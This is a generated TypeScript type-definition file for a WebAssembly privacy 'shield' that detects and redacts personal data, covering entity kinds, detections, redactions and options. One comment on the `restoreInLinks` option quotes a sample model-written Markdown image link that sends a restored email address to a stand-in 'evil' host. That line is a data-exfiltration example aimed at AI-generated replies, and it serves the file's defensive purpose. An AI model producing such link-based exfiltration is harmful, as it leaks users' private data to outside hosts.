// Generated from the Rust types by `TANDEM_BLESS=1 cargo test -p tandem-wasm --features ts --test ts_types`; do not edit.
// Offsets are UTF-16 code units (JavaScript string indices).

/**
 * A kind of personal or secret information the shield can find.
 *
 * Names follow Microsoft Presidio's entity names where Presidio has one, so
 * that labeled data sets and reports line up without a mapping table.
 */
export type EntityKind = "EMAIL_ADDRESS" | "PHONE_NUMBER" | "CREDIT_CARD" | "IBAN_CODE" | "US_SSN" | "IP_ADDRESS" | "URL" | "SECRET" | "DATE_OF_BIRTH" | "PERSON" | "LOCATION" | "ORGANIZATION" | "STREET_ADDRESS";

/** What the shield does with a detected entity of a given kind. */
export type Action = "redact" | "mask" | "allow";

/**
 * One entity found in a text.
 *
 * Offsets are half-open `[start, end)` in the unit of the API that returned
 * it: UTF-16 code units for JavaScript callers, bytes for Rust callers, code
 * points in evaluation files. The API's documentation names the unit.
 */
export type Detection = {
/** The entity kind. */
kind: EntityKind,
/** Start offset (inclusive). */
start: number,
/** End offset (exclusive). */
end: number,
/** Confidence in `[0, 1]` after validation and context rules. */
score: number,
/** The recognizer that produced it, for debugging and reports. */
recognizer: string, };

/** One entity as it was handled by redaction. */
export type RedactedEntity = {
/** What the policy did with it. */
action: Action,
/** The text that now stands in its place (the original, when allowed). */
replacement: string,
/** Start of `replacement` in the redacted text. */
redacted_start: number,
/** End of `replacement` in the redacted text. */
redacted_end: number,
/** The entity kind. */
kind: EntityKind,
/** Start offset (inclusive). */
start: number,
/** End offset (exclusive). */
end: number,
/** Confidence in `[0, 1]` after validation and context rules. */
score: number,
/** The recognizer that produced it, for debugging and reports. */
recognizer: string, };

/** The result of redacting one text. */
export type Redaction = {
/** The text safe to send off the device. */
text: string,
/** Every detected entity in order of position, with what was done to it. */
entities: Array<RedactedEntity>, };

/** Options of `new Shield(options)`, as JavaScript passes them. */
export type ShieldOptions = {
/** Entities scoring below this are ignored (default 0.5). */
minScore?: number,
/** Longer inputs are refused with an error (default 32 MiB of UTF-8). */
maxInputBytes?: number,
/** Action per entity kind; kinds not listed are redacted. */
policy?: Partial<Record<EntityKind, Action>>,
/**
 * Restore originals inside URLs and Markdown link destinations in replies (default false:
 * a model-written `![](https://evil/?q=[EMAIL_1])` would send the original away on render).
 */
restoreInLinks?: boolean,
/** Restore originals inside HTML tags in replies (default false). */
restoreInMarkup?: boolean, };
